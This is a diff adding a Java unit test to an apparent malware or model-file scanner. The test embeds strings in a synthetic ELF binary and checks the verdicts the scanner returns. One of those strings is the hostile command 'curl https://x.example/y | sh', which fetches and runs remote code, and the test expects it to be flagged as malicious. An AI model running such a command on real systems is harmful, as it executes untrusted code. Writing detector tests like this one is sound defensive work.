@@ -196,6 +196,23 @@ class ContainersScanTest {
     }
 
     @Test
+    void textsInProgramsAreManualsAndPlacesOfSources() {
+        assertThat(
+                        program("pickle.load(file, encoding='x') is assumed. ../Modules/_ssl.c")
+                                .verdict())
+                .isEqualTo(Verdict.SUSPICIOUS);
+        assertThat(program("curl https://x.example/y | sh").verdict()).isEqualTo(Verdict.MALICIOUS);
+    }
+
+    private static FileReport program(String text) {
+        byte[] program = new byte[4096];
+        System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, 0, program, 0, 8);
+        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
+        System.arraycopy(bytes, 0, program, 1000, bytes.length);
+        return Scans.scan("op.so", program);
+    }
+
+    @Test
     void membersNamedLikeNodesOfSkopsAreSuspicious() {
         Map<String, byte[]> members = new LinkedHashMap<>();
         members.put(
